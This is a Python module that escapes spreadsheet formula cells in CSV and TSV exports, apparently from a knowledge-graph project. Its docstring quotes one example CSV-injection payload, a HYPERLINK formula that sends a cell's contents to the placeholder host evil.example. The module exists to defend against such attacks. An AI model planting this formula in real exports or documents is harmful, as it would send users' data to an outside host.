"""CSV that is safe to open in a spreadsheet: no cell can become a formula.

Excel, LibreOffice Calc and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, in some versions, a tab or carriage return) as a formula, so a label such as
``=HYPERLINK("http://evil.example/?"&A1)`` in the data would run when the export is opened
("CSV injection"). The tables the project writes for spreadsheets and graph tools (the Gephi
node and edge files, ``analyze`` tables, import templates and problem reports, ``validate``
tables) prefix such cells with a single quote ``'``, which spreadsheets show as text. Plain
numbers such as ``-3.5`` stay as they are. SPARQL results in CSV keep the W3C format unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(cell):
    """``cell``, with a leading ``'`` when a spreadsheet would read it as a formula."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def safe_rows(rows: Sequence[Sequence]) -> list[list]:
    return [[safe_cell(c) for c in row] for row in rows]


def render_sheet(
    headers: Sequence[str], rows: Sequence[Sequence], fmt: str, width: int | None = None
) -> str:
    """:func:`smartcity_kg.render.render_table`, with formula-safe cells for csv and tsv
    (``width`` shortens a ``table`` to the terminal, as there)."""
    from .render import render_table

    if fmt in ("csv", "tsv"):
        return render_table([safe_cell(h) for h in headers], safe_rows(rows), fmt)
    return render_table(headers, rows, fmt, width)
